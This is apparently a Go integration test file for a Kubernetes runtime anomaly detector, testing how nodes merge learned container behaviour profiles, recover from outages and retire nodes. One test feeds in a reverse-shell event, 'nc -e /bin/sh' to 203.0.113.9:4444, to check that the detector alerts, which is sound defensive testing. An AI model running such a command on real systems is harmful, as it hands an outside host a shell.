package cluster

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"encoding/json"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/rest"

	"github.com/driftwatch/driftwatch/event"
	"github.com/driftwatch/driftwatch/internal/testinfra"
	"github.com/driftwatch/driftwatch/model"
	"github.com/driftwatch/driftwatch/profiler"
)

var (
	quiet = testLogger()
	t0    = time.Date(2026, 1, 2, 3, 0, 0, 0, time.UTC).UnixNano()
	web   = &event.Container{ContainerInfo: event.ContainerInfo{ID: "c-web", Image: "registry.example/shop/web:1.4",
		ImageRepo: "registry.example/shop/web", ImageTag: "1.4", ImageDigest: "sha256:" + strings.Repeat("ab", 32),
		Namespace: "shop", PodName: "web-0", StartTime: t0}}
	webKey = profiler.KeyFor(web)
	shP    = &event.Process{Pid: 1, Exe: "/bin/sh", Args: []string{"sh"}}
)

// testLogger discards logs unless DRIFTWATCH_TEST_LOG is set.
func testLogger() *slog.Logger {
	if os.Getenv("DRIFTWATCH_TEST_LOG") != "" {
		return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelDebug}))
	}
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func execE(t int64, exe string, argv ...string) *event.Enriched {
	p := &event.Process{Pid: 2, Exe: exe, Args: argv, Parent: shP, Container: web}
	return &event.Enriched{Event: &event.Event{Kind: event.KindExec, Time: t, Exe: []byte(exe), Argv: []byte(strings.Join(argv, "\x00"))}, Proc: p, Container: web}
}

func openE(t int64, path string) *event.Enriched {
	p := &event.Process{Pid: 3, Exe: "/usr/bin/app", Args: []string{"app"}, Parent: shP, Container: web}
	return &event.Enriched{Event: &event.Event{Kind: event.KindSyscall, Syscall: event.SysOpenat, Time: t, Path: []byte(path), Ret: 3}, Proc: p, Container: web}
}

func connectE(t int64, dst string) *event.Enriched {
	p := &event.Process{Pid: 3, Exe: "/usr/bin/app", Args: []string{"app"}, Parent: shP, Container: web}
	ev := &event.Event{Kind: event.KindSyscall, Syscall: event.SysConnect, Time: t, Family: event.AFInet, Proto: event.ProtoTCP, Dst: netip.MustParseAddrPort(dst)}
	return &event.Enriched{Event: ev, Proc: p, Container: web}
}

// part returns behaviour i of the image (0: what every replica does;
// 1..3: what only some replicas see), as event makers.
func part(i int) []func(t int64) *event.Enriched {
	switch i {
	case 0:
		return []func(int64) *event.Enriched{
			func(t int64) *event.Enriched { return openE(t, "/etc/app/config.yaml") },
			func(t int64) *event.Enriched { return connectE(t, "10.0.0.10:5432") },
			func(t int64) *event.Enriched { return execE(t, "/usr/bin/app", "app", "serve") },
		}
	case 1:
		return []func(int64) *event.Enriched{
			func(t int64) *event.Enriched { return execE(t, "/usr/bin/gzip", "gzip", "-9") },
			func(t int64) *event.Enriched { return openE(t, "/var/log/app/access.log") },
		}
	case 2:
		return []func(int64) *event.Enriched{
			func(t int64) *event.Enriched { return connectE(t, "10.0.0.20:6379") },
			func(t int64) *event.Enriched { return openE(t, "/srv/static/index.html") },
		}
	default:
		return []func(int64) *event.Enriched{
			func(t int64) *event.Enriched {
				return execE(t, "/usr/bin/curl", "curl", "-sf", "http://localhost:8080/healthz")
			},
			func(t int64) *event.Enriched { return connectE(t, "10.0.0.30:443") },
		}
	}
}

// learn feeds n rounds of the behaviours of parts into prof, one round per
// 10 s of event time starting at from; it returns the time after.
func learn(prof *profiler.Profiler, from int64, n int, parts ...int) int64 {
	t := from
	for r := 0; r < n; r++ {
		for _, p := range parts {
			for _, mk := range part(p) {
				prof.Learn(mk(t))
			}
		}
		t += int64(10 * time.Second)
	}
	return t
}

type cluster struct {
	k    *testinfra.Kube
	cfg  *rest.Config
	kube kubernetes.Interface
	dyn  dynamic.Interface
}

// newAgents adds nodes node-1 … node-n and starts an agent on each, with
// its own profile store in a test directory.
func (c *cluster) newAgents(t *testing.T, n int) []*agent {
	t.Helper()
	dir := t.TempDir()
	var agents []*agent
	for i := 1; i <= n; i++ {
		node := fmt.Sprintf("node-%d", i)
		c.addNode(t, node)
		agents = append(agents, c.newAgent(t, node, filepath.Join(dir, node+".db"), nil))
	}
	return agents
}

func startCluster(t *testing.T) *cluster {
	t.Helper()
	if os.Getuid() != 0 {
		t.Skip("needs root for the cached kube-apiserver and etcd")
	}
	k := testinfra.KubeAPIServer(t)
	c := &cluster{k: k, cfg: k.RESTConfig()}
	deploy := filepath.Join("..", "..", "deploy")
	testinfra.Apply(t, c.cfg, filepath.Join(deploy, "namespace.yaml"), filepath.Join(deploy, "crd.yaml"), filepath.Join(deploy, "rbac.yaml"))
	var err error
	c.kube, err = kubernetes.NewForConfig(c.cfg)
	if err != nil {
		t.Fatal(err)
	}
	c.dyn, err = dynamic.NewForConfig(c.cfg)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func (c *cluster) addNode(t *testing.T, name string) {
	t.Helper()
	if _, err := c.kube.CoreV1().Nodes().Create(context.Background(), &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// agent is one simulated node: a local store, a profiler and a Syncer.
type agent struct {
	node   string
	dbPath string
	store  *profiler.Store
	prof   *profiler.Profiler
	sync   *Syncer
	cancel context.CancelFunc
	done   chan struct{}
}

var (
	testPeriod = 400 * time.Millisecond
	profCfg    = profiler.Config{Logger: quiet, MinStable: time.Minute, Window: time.Minute}
)

func (c *cluster) newAgent(t *testing.T, node, dbPath string, wrap func(http.RoundTripper) http.RoundTripper) *agent {
	t.Helper()
	st, err := profiler.OpenStore(dbPath, profiler.StoreOptions{Logger: quiet, NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	a := &agent{node: node, dbPath: dbPath, store: st, prof: profiler.New(st, profCfg)}
	cfg := rest.CopyConfig(c.cfg)
	cfg.QPS, cfg.Burst = 100, 200
	// The agents run as deploy/'s ServiceAccount: its RBAC must suffice.
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:driftwatch:driftwatch"}
	if wrap != nil {
		cfg.WrapTransport = wrap
	}
	dyn, err := dynamic.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	kube, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	a.sync, err = New(dyn, kube, a.prof, Config{Node: node, Period: testPeriod, Refresh: 3 * testPeriod, LeaseDuration: 3 * time.Second,
		RenewDeadline: 2 * time.Second, RetryPeriod: 300 * time.Millisecond, RetireGrace: time.Millisecond, Logger: quiet})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	a.cancel, a.done = cancel, make(chan struct{})
	go func() { defer close(a.done); _ = a.sync.Run(ctx) }()
	t.Cleanup(a.stop)
	return a
}

// stop ends the agent like a restart: the syncer stops, the store closes
// (the final checkpoint is what the agent does on SIGTERM).
func (a *agent) stop() {
	if a.cancel == nil {
		return
	}
	a.cancel()
	<-a.done
	a.cancel = nil
	_ = a.prof.Checkpoint()
	_ = a.store.Close()
}

// waitFor polls cond until it holds or the timeout passes.
func waitFor(t *testing.T, what string, timeout time.Duration, cond func() (bool, string)) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	last := ""
	for time.Now().Before(deadline) {
		ok, why := cond()
		if ok {
			return
		}
		last = why
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("%s: not within %v (last: %s)", what, timeout, last)
}

// counts returns every feature's count of key in prof ("cat text" → count).
func counts(prof *profiler.Profiler, key string) map[string]uint64 {
	out := map[string]uint64{}
	for _, pj := range prof.Snapshot(key) {
		for cat, cj := range pj.Categories {
			for _, f := range cj.Features {
				out[cat+" "+f.Feature] = f.Count
			}
		}
	}
	return out
}

func sumCounts(ms ...map[string]uint64) map[string]uint64 {
	out := map[string]uint64{}
	for _, m := range ms {
		for k, v := range m {
			out[k] += v
		}
	}
	return out
}

func diffCounts(got, want map[string]uint64) string {
	var d []string
	for k, v := range want {
		if got[k] != v {
			d = append(d, fmt.Sprintf("%s: got %d want %d", k, got[k], v))
		}
	}
	for k, v := range got {
		if _, ok := want[k]; !ok {
			d = append(d, fmt.Sprintf("%s: got %d, not learned", k, v))
		}
	}
	return strings.Join(d, "; ")
}

// waitMerged waits until every agent's merged profile of key has exactly want.
func waitMerged(t *testing.T, agents []*agent, key string, want map[string]uint64, timeout time.Duration) {
	t.Helper()
	for _, a := range agents {
		waitFor(t, "merged profile on "+a.node, timeout, func() (bool, string) {
			d := diffCounts(counts(a.sync.Merged(), key), want)
			return d == "", d
		})
	}
}

// detect scores events in detect mode and returns the anomaly alerts.
func detect(d interface {
	Handle(*event.Enriched, event.Mode, func(*event.Alert))
}, evs ...*event.Enriched) []*event.Alert {
	var out []*event.Alert
	for _, e := range evs {
		d.Handle(e, event.ModeDetect, func(a *event.Alert) { out = append(out, a) })
	}
	return out
}

func allParts(t int64) []*event.Enriched {
	var evs []*event.Enriched
	for p := 0; p <= 3; p++ {
		for _, mk := range part(p) {
			evs = append(evs, mk(t))
		}
	}
	return evs
}

// TestThreeNodesLearnFourthDetects: three agents each see a different part
// of one image's behaviour; a fourth that never ran the image detects with
// the merged profile: nothing learned anywhere alerts, a new behaviour does.
func TestThreeNodesLearnFourthDetects(t *testing.T) {
	c := startCluster(t)
	agents := c.newAgents(t, 4)
	start := t0 + int64(time.Minute)
	for i := 0; i < 3; i++ {
		learn(agents[i].prof, start, 30, 0, i+1) // 5 minutes of event time
	}
	want := sumCounts(counts(agents[0].prof, webKey), counts(agents[1].prof, webKey), counts(agents[2].prof, webKey))
	begin := time.Now()
	waitMerged(t, agents, webKey, want, 20*time.Second)
	t.Logf("merged profile on all 4 agents %v after learning (period %v)", time.Since(begin).Round(10*time.Millisecond), testPeriod)

	// The merged states come from the merged counts.
	var ip *ImageProfile
	waitFor(t, "ImageProfile states", 10*time.Second, func() (bool, string) {
		u, err := c.dyn.Resource(ImageProfileGVR).Get(context.Background(), ObjectName(webKey), metav1.GetOptions{})
		if err != nil {
			return false, err.Error()
		}
		ip, err = imageFrom(u)
		if err != nil {
			return false, err.Error()
		}
		return ip.Status.State == "stable" && ip.Status.Nodes == 3, fmt.Sprintf("%+v", ip.Status.States)
	})
	if ip.Spec.Key != webKey || ip.Spec.Image != web.Image || ip.Status.Features != int64(len(want)) {
		t.Errorf("ImageProfile spec %+v, %d features (want %d)", ip.Spec, ip.Status.Features, len(want))
	}

	// What `kubectl get imageprofiles` prints: the server-side Table.
	checkTable(t, c, ip)

	// Node 4 never saw the image; no local profile.
	if agents[3].prof.Has(webKey) {
		t.Fatal("node-4 has a local profile")
	}
	// The agent's detector: learns locally, scores with the merged profile.
	d4 := NewDetector(model.NewDetector(agents[3].prof, model.Config{}), agents[3].sync, model.Config{})
	tDetect := start + int64(10*time.Minute)
	if al := detect(d4, allParts(tDetect)...); len(al) != 0 {
		t.Errorf("behaviour learned on some node alerted on node-4: %d alerts, first %s: %s", len(al), al[0].Rule, al[0].Output)
	}
	novel := []*event.Enriched{
		execE(tDetect+1, "/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
		connectE(tDetect+2, "203.0.113.9:4444"),
	}
	al := detect(d4, novel...)
	if len(al) == 0 {
		t.Fatal("a new behaviour raised no alert on node-4")
	}
	for _, a := range al {
		t.Logf("node-4 alert: %s (%s)", a.Rule, a.Priority)
	}
	// Steady state: nothing new learned, no writes.
	before := totalWrites(agents)
	time.Sleep(5 * testPeriod)
	if after := totalWrites(agents); after != before {
		t.Errorf("steady state: %d writes in 5 periods (slot+image writes %d → %d)", after-before, before, after)
	}

	// A feature learned on one node reaches every agent within two
	// periods (the bound is P·1.1 for the jittered slot write plus P/2 for
	// the merge; slack for a busy machine).
	learnAt := time.Now()
	agents[1].prof.Learn(openE(tDetect+int64(time.Minute), "/etc/app/feature-flags.json"))
	want["file /etc/app/feature-flags.json [read]"] = 1
	waitMerged(t, agents, webKey, want, 2*testPeriod+5*time.Second)
	t.Logf("new feature on node-2 known to all agents after %v (period %v)", time.Since(learnAt).Round(time.Millisecond), testPeriod)

	// Without sharing, node-1 alone would have flagged part 2's behaviour.
	d1 := model.NewDetector(agents[0].prof, model.Config{})
	agents[0].prof.Finalize(false)
	if al := detect(d1, allParts(tDetect)...); len(al) == 0 {
		t.Error("node-1's local profile does not flag behaviour only other nodes saw: the test proves nothing")
	}
}

func totalWrites(agents []*agent) uint64 {
	var n uint64
	for _, a := range agents {
		st := a.sync.Stats()
		n += st.SlotWrites + st.ImageWrites
	}
	return n
}

// lossyTransport fails the response of the first n successful writes to
// NodeProfiles after the server applied them (a lost response).
type lossyTransport struct {
	rt   http.RoundTripper
	left atomic.Int32
	lost atomic.Int32
}

func (l *lossyTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	resp, err := l.rt.RoundTrip(r)
	if err == nil && (r.Method == http.MethodPut || r.Method == http.MethodPost) && strings.Contains(r.URL.Path, "/nodeprofiles") &&
		resp.StatusCode < 300 && l.left.Add(-1) >= 0 {
		resp.Body.Close()
		l.lost.Add(1)
		return nil, fmt.Errorf("lossy transport: response dropped after the server applied the write")
	}
	return resp, err
}

// TestAPIServerDownRestartsLostResponses: the API server is killed while
// agents sync and learn, an agent restarts while it is down, responses to
// applied writes are lost; after the restart the merged counts are exactly
// the sum of what each node learned: nothing lost, nothing counted twice.
func TestAPIServerDownRestartsLostResponses(t *testing.T) {
	c := startCluster(t)
	dir := t.TempDir()
	lossy := &lossyTransport{}
	lossy.left.Store(3)
	var agents []*agent
	for i := 1; i <= 3; i++ {
		node := fmt.Sprintf("node-%d", i)
		c.addNode(t, node)
		var wrap func(http.RoundTripper) http.RoundTripper
		if i == 1 {
			wrap = func(rt http.RoundTripper) http.RoundTripper { lossy.rt = rt; return lossy }
		}
		agents = append(agents, c.newAgent(t, node, filepath.Join(dir, node+".db"), wrap))
	}
	tm := make([]int64, 3)
	for i := range agents {
		tm[i] = learn(agents[i].prof, t0+int64(time.Minute), 10, 0, i+1)
	}
	// Mid-sync: let some writes through, then kill the API server.
	time.Sleep(testPeriod)
	c.k.StopAPIServer(t)
	for i := range agents {
		tm[i] = learn(agents[i].prof, tm[i], 10, 0, 3-i)
	}
	// node-2 restarts while the API server is down.
	agents[1].stop()
	agents[1] = c.newAgent(t, "node-2", agents[1].dbPath, nil)
	tm[1] = learn(agents[1].prof, tm[1], 5, 1)
	time.Sleep(2 * testPeriod)
	c.k.StartAPIServer(t)
	for i := range agents {
		tm[i] = learn(agents[i].prof, tm[i], 3, 0)
	}
	want := sumCounts(counts(agents[0].prof, webKey), counts(agents[1].prof, webKey), counts(agents[2].prof, webKey))
	waitMerged(t, agents, webKey, want, 40*time.Second)
	if lossy.lost.Load() == 0 {
		t.Error("no response was lost: the test did not exercise retries")
	}
	t.Logf("lost responses %d; stats node-1 %+v", lossy.lost.Load(), agents[0].sync.Stats())
}

// TestConcurrentMergersConverge: two mergers (as during a Lease hand-over)
// write the same ImageProfiles concurrently; resourceVersion conflicts are
// retried and the result is the exact sum.
func TestConcurrentMergersConverge(t *testing.T) {
	c := startCluster(t)
	agents := c.newAgents(t, 3)
	// Extra mergers outside the election, each with its own informers.
	var extra []*merger
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	for i := 0; i < 2; i++ {
		s, err := New(c.dyn, c.kube, profiler.New(nil, profCfg), Config{Node: fmt.Sprintf("merger-%d", i), NoMerge: true, Period: testPeriod, MergeInterval: 20 * time.Millisecond, Logger: quiet})
		if err != nil {
			t.Fatal(err)
		}
		go s.imgInf.Run(ctx.Done())
		m := newMerger(s)
		extra = append(extra, m)
		go m.run(ctx)
	}
	var wg sync.WaitGroup
	for i, a := range agents {
		wg.Add(1)
		go func() {
			defer wg.Done()
			tt := t0 + int64(time.Minute)
			for r := 0; r < 20; r++ {
				tt = learn(a.prof, tt, 2, 0, i+1, (i+r)%3+1)
				time.Sleep(testPeriod / 3)
			}
		}()
	}
	wg.Wait()
	want := sumCounts(counts(agents[0].prof, webKey), counts(agents[1].prof, webKey), counts(agents[2].prof, webKey))
	waitMerged(t, agents, webKey, want, 30*time.Second)
	var conflicts uint64
	for _, m := range extra {
		conflicts += m.s.Stats().Conflicts
	}
	for _, a := range agents {
		conflicts += a.sync.Stats().Conflicts
	}
	if conflicts == 0 {
		t.Error("no conflict happened: the test did not exercise concurrent writes")
	}
	t.Logf("conflicts retried: %d", conflicts)
}

// TestNodeLeaves: a node whose Node object is deleted has its slot folded
// into the retired total and deleted; the merged counts do not change.
func TestNodeLeaves(t *testing.T) {
	c := startCluster(t)
	agents := c.newAgents(t, 3)
	for i := range agents {
		learn(agents[i].prof, t0+int64(time.Minute), 10, 0, i+1)
	}
	want := sumCounts(counts(agents[0].prof, webKey), counts(agents[1].prof, webKey), counts(agents[2].prof, webKey))
	waitMerged(t, agents, webKey, want, 20*time.Second)
	agents[2].stop()
	if err := c.kube.CoreV1().Nodes().Delete(context.Background(), "node-3", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "node-3's slot retired", 20*time.Second, func() (bool, string) {
		_, err := c.dyn.Resource(NodeProfileGVR).Get(context.Background(), "node-3", metav1.GetOptions{})
		return err != nil && strings.Contains(err.Error(), "not found"), fmt.Sprint(err)
	})
	u, err := c.dyn.Resource(ImageProfileGVR).Get(context.Background(), ObjectName(webKey), metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ip, err := imageFrom(u)
	if err != nil {
		t.Fatal(err)
	}
	if ip.Status.Nodes != 2 || ip.Status.RetiredNodes != 1 {
		t.Errorf("nodes %d retired %d, want 2 and 1", ip.Status.Nodes, ip.Status.RetiredNodes)
	}
	waitMerged(t, agents[:2], webKey, want, 10*time.Second)
	// The tombstone of the deleted slot is compacted (RetireGrace is 1 ms
	// here); the retired total and count stay.
	waitFor(t, "retired slot list compacted", 10*time.Second, func() (bool, string) {
		ip := getImageProfile(t, c, webKey)
		return len(ip.Status.RetiredSlots) == 0 && ip.Status.RetiredNodes == 1, fmt.Sprintf("retiredSlots %v retiredNodes %d", ip.Status.RetiredSlots, ip.Status.RetiredNodes)
	})
	waitMerged(t, agents[:2], webKey, want, 10*time.Second)
	// More learning on the remaining nodes adds on top of the retired total.
	learn(agents[0].prof, t0+int64(time.Hour), 3, 0)
	want = sumCounts(counts(agents[0].prof, webKey), counts(agents[1].prof, webKey), counts(agents[2].prof, webKey))
	waitMerged(t, agents[:2], webKey, want, 20*time.Second)
}

// TestSlotRetiredWhileAgentRuns: the Node object of a node whose agent
// keeps running is deleted, so the merger folds its slot into the retired
// total, deletes it and (RetireGrace later) forgets the slot's id. The
// agent must not write the same epoch again (it would be counted twice);
// it starts a new contribution, and what it learns then counts once on top
// of the retired total.
func TestSlotRetiredWhileAgentRuns(t *testing.T) {
	c := startCluster(t)
	agents := c.newAgents(t, 2)
	learn(agents[0].prof, t0+int64(time.Minute), 10, 0, 1)
	learn(agents[1].prof, t0+int64(time.Minute), 10, 0, 2)
	retiredCounts := counts(agents[1].prof, webKey)
	want := sumCounts(counts(agents[0].prof, webKey), retiredCounts)
	waitMerged(t, agents, webKey, want, 20*time.Second)
	slot, err := c.dyn.Resource(NodeProfileGVR).Get(context.Background(), "node-2", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	np, err := nodeProfileFrom(slot)
	if err != nil {
		t.Fatal(err)
	}
	oldID := "node-2/" + np.Spec.Epoch

	if err := c.kube.CoreV1().Nodes().Delete(context.Background(), "node-2", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "node-2's slot retired and its id compacted", 20*time.Second, func() (bool, string) {
		ip := getImageProfile(t, c, webKey)
		_, err := c.dyn.Resource(NodeProfileGVR).Get(context.Background(), "node-2", metav1.GetOptions{})
		gone := err != nil && strings.Contains(err.Error(), "not found")
		return gone && ip.Status.RetiredNodes == 1 && !slices.Contains(ip.Status.RetiredSlots, oldID),
			fmt.Sprintf("slot err %v, retiredNodes %d, retiredSlots %v", err, ip.Status.RetiredNodes, ip.Status.RetiredSlots)
	})
	c.addNode(t, "node-2") // the node is back; its agent never stopped
	// Learning that makes the agent write again: its update finds the slot
	// gone and the agent starts a new epoch (what it learned since its last
	// write is not acknowledged, so it may be dropped).
	learn(agents[1].prof, t0+int64(2*time.Minute), 5, 3)
	waitFor(t, "node-2's agent resetting its contribution", 20*time.Second, func() (bool, string) {
		n := len(counts(agents[1].prof, webKey))
		return n == 0, fmt.Sprintf("%d features", n)
	})
	learn(agents[1].prof, t0+int64(3*time.Minute), 7, 3)
	waitFor(t, "node-2 publishing under a new epoch", 20*time.Second, func() (bool, string) {
		u, err := c.dyn.Resource(NodeProfileGVR).Get(context.Background(), "node-2", metav1.GetOptions{})
		if err != nil {
			return false, err.Error()
		}
		np, err := nodeProfileFrom(u)
		if err != nil {
			return false, err.Error()
		}
		return "node-2/"+np.Spec.Epoch != oldID, "epoch " + np.Spec.Epoch
	})
	// Retired total (node-2's old slot, once) + node-1 + node-2's new epoch.
	want = sumCounts(counts(agents[0].prof, webKey), retiredCounts, counts(agents[1].prof, webKey))
	waitMerged(t, agents, webKey, want, 20*time.Second)
	ip := getImageProfile(t, c, webKey)
	if ip.Status.Nodes != 2 || ip.Status.RetiredNodes != 1 {
		t.Errorf("nodes %d retired %d, want 2 and 1", ip.Status.Nodes, ip.Status.RetiredNodes)
	}
}

func getImageProfile(t *testing.T, c *cluster, key string) *ImageProfile {
	t.Helper()
	u, err := c.dyn.Resource(ImageProfileGVR).Get(context.Background(), ObjectName(key), metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ip, err := imageFrom(u)
	if err != nil {
		t.Fatal(err)
	}
	return ip
}

// checkTable asks the API server for the Table kubectl prints and checks
// the printer columns show the object's summary.
func checkTable(t *testing.T, c *cluster, ip *ImageProfile) {
	t.Helper()
	rc, err := rest.RESTClientFor(func() *rest.Config {
		cfg := rest.CopyConfig(c.cfg)
		cfg.GroupVersion = &schema.GroupVersion{Group: Group, Version: Version}
		cfg.APIPath = "/apis"
		cfg.NegotiatedSerializer = scheme.Codecs.WithoutConversion()
		return cfg
	}())
	if err != nil {
		t.Fatal(err)
	}
	raw, err := rc.Get().Resource("imageprofiles").SetHeader("Accept", "application/json;as=Table;v=v1;g=meta.k8s.io").DoRaw(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var table metav1.Table
	if err := json.Unmarshal(raw, &table); err != nil {
		t.Fatal(err)
	}
	var cols []string
	for _, col := range table.ColumnDefinitions {
		cols = append(cols, col.Name)
	}
	want := []string{"Name", "Image", "State", "Process", "Edge", "File", "Network", "Listen", "Privilege", "Features", "Nodes", "Retired", "Last Learned", "Bytes"}
	if strings.Join(cols, ",") != strings.Join(want, ",") {
		t.Fatalf("columns %v, want %v", cols, want)
	}
	if len(table.Rows) != 1 {
		t.Fatalf("%d rows", len(table.Rows))
	}
	cells := table.Rows[0].Cells
	got := fmt.Sprint(cells[:4], cells[9:11])
	if exp := fmt.Sprint([]any{ip.Name, ip.Spec.Image, "stable", "stable"}, []any{float64(ip.Status.Features), float64(3)}); got != exp {
		t.Errorf("kubectl get row %v, want %v", got, exp)
	}
	t.Logf("kubectl get imageprofiles: %v", cells)
}
